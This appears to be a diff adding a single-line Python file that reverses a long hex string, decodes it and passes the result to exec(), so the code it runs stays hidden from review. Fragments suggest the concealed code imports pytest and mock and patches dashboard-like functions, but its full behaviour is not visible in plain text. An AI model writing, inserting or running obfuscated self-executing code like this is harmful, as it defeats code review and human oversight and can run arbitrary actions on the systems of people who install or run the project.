@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d6e2473756474796e65702020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a092228616265727562602669647b61602e657b6162202c2d52227f627275622b5d5225636e616c6162622b53756962747e65682c616571754472756373716e266c656370202020202020202a092824656c6c61636f547f6e6f5472756373716e2d5225636e616c61626f547567622b537275647475676e266c656370202020202020202a0a092d72246c6f62202a322e656b6f647f53737563636162202c22246c6f62202a322e656b6f647f5469622b7824616f6c6f5e266c6563702d3023756962747e6560202020202020202a0d7d72227568647f62202a322e656b6f647f53737563636162202c22227568647f62202a322e656b6f647f5469622b702a32237e656b6f6472202c21302b202275626d657e6e266c6563702a322275626d657e622b702d30227563757f5566796473616e266c656370202020202020202a0a39266c656378246568636475666f547f6e6f53796f547e657f6363616f54656863647967737f5473756470266564602020202a0a092d72256c69666f627072202c2221647f6571722b702c2923727f62727568247563782c616571754472756373716e266c656370202020202020202a0d5223727f627275622b59227563757f5566796473616e266c6563702c2229756b6228247f686370716e637e2462716f62686371646e266c6563702d3023727f62727560202020202020202a0a092222202c292825657c61667475676e24757f6464737e266c6563782c616571754472756373716e266c656370202020202020202a092d52227f627275622b5d5225636e616c6162622b53756962747e6568256e6f6e43794472756373716e266c656370202020202020202a092224757f6024656d696470256c69666f627072202c2d52227f627275622b5d52256c69666f6270722b53756962747e65682c616571754472756373716e266c656370202020202020202a0922203035302a31647f657170276e696474756760227f62727542202c2d52227f627275622b5d5221647f6571722b53756962747e65682c616571754472756373716e266c656370202020202020202a0a092d52237e656b6f64722b527563757f5566796473616e266c65637824616f6c6f5e266c6563702d3023756962747e6560202020202020202a0a39266c6563782465647e6962707f566f6f54616564737e696f54656473656c6c6f636f5562716f53727f6272756f5473756470266564602020202a0a0920303035302c222373756363616d286375627662202c2224696d286375627662202c2229756b6228286479677f54656c6c61636f5472756373716e2d5223747e656d676563722b537275647475676e266c656370202020202020202a092224696d286375627662202c2229756b6228286479677f54656c6c61636f5472756373716e2d5225636e616c61626f547567622b537275647475676e266c656370202020202020202a0a092d722373756363616d2465627960787562202a322e656b6f647f53737563636162202c2224696d2465627960787562202a322e656b6f647f5469622b7824616f6c6f5e266c656370202020202020202a0a39266c656378227563757f5566796473616f5568647f566f6f537e656b6f647f537563757f58636475666f5473756470266564602020202a0a0d7928237d6564796e23756962747e656f5e2462716f62686371646e266c6563702e69602972747e65602c256362757f6370227f6660292972747e656824736964602a356362757f637b702e62757475627020202020202020202020202a0a3b636f6c6f5e2462716f62686371646e266c6563702864796770202020202020202a0928256c64696f547961677f5e266c656370202020202020202a09292538246564616f6c6f5c69647e657f547961677e2462716f62686371646e266c656378256572745472756373716e266c656370202020202020202a092d737e656b6f64702a32237e656b6f6472202c2275626d657e6e266c6563702a322275626d657e622b702c2229756b6228247f686370716e637e2462716f62686371646e266c656370202020202020202a0a34736964602e3d202924736964602a337e656b6f64702c266c65637824616f6c6f50266564602020202a0a0921303e20382075656c637e256d69647020202020202020202020202a0a356e696c64616564602c30292823696e6f647f6e6f6d6e256d696470246e61602929282375657c61667e23756962747e656f5e2462716f62686371646e266c6563702e69602972747e6560227f66602d52276e6964616f6c622b5972747e6568297e6160256c69686770202020202020202a05302b20292823696e6f647f6e6f6d6e256d6964702d30256e696c6461656460202020202020202a0a39266c656378256c64696f547961677f50266564602020202a0a056e6f6e402e627574756270202020202020202a0922203035302a31647f657170276e696474756760227f6272754228247e69627070202020202020202a0a392e656b6f647f5469602c29756b6f5960716821647f65717f50266564602020202a046f6864756d63696471647370402020202a0a09256c64696f547961677f5e266c65637820757e61656c634464616e266c656370202020202020202a056e6f646e65702562716023756863647160702568647025627f66656260237e6572502320202020202020202a09207f64737e28636471607820757e61656c634464616e266c65637020202020202020202020202a092824727164737e28636471607020202020202020202020202a0a33756863647160702e6960286364716070227f6660202020202020202a0d5924757f6464737e266c6563702c2224757f64647372202c237973782473656a626f6e28636471607e2b636f6d602c2928647571602c2225636e6164737e694864757142202c2462716f6268637164682473656a626f6e28636471607e2b636f6d6b502d3b202375686364716070202020202020202a0d5928237d6564796e237275647475676e266c6563702e6960227564747567602c256d616e60227f666029227564747567602c256d616e602c2462716f6268637164682473656a626f6e28636471607e2b636f6d6b502d302375686364716070202020202020202a0d70202020202020202a0c292d7b7d35657c61667f5e6275747562782b636f6d4e2b636f6d602a3223747e656d676563722020202020202020202020202a0c29292224757f6024656d696470256c69666f62707228227f627275456d69647e65725d3473656666656f55646963782b636f6d4e2b636f6d602a322f666e696f5e69676f6c622020202020202020202020202a0c2921647f65717f5e266c65637d3473656666656f55646963782b636f6d4e2b636f6d602a3221647f65717f5e69616d6f547567622020202020202020202020202a0c292d70302a3224716f5465627960787562202c20303035302a32276e696e69616d6562722b7d35657c61667f5e6275747562782b636f6d4e2b636f6d602a3225636e616c61626f547567622020202020202020202020202a0b702d30237275647475676e266c656370202020202020202a027563757f5566796473616e266c6563702a3164626d616c602d302473656666656f556469637e227563757f5566796473616f5475676e2864757160202020202020202a09282b636f6d4e2b636f6d602d302864757160202020202020202a0a09282f49476e696274735e2f69602d3024757f6464737e266c656370202020202020202a0d7d722373756363616d286375627662202a322e656b6f647f53737563636162202c2224696d286375627662202a322e656b6f647f5469622b702a32237e656b6f6472202c2275626d657e6e266c6563702a322275626d657e622b702d30227563757f5566796473616e266c656370202020202020202a09237275626d657e6f582478756e602d302275626d657e6e266c656370202020202020202a05636e6164737e694462716f62686371644e2462716f6268637164602d302462716f62686371646e266c656370202020202020202a0462716f62686371646024727f607d6960256369667275637e207071602d6f627660202020202020202a0a39266c656378207554756370266564602020202a0a3925637163447375645e2473756474796e65782473756458636475664462716f6268637164402373716c636a0a0a0920303138323638247e657f636e237c6f6f6472756479602d30237275626d657e6f5a0a0b636f6d6024727f607d69602473756474796e65702d6f62766a0473756474796e657024727f607d696a056d69647024727f607d696a0379737024727f607d696a037c6f6f64727564796024727f607d696a0f696024727f607d696" ));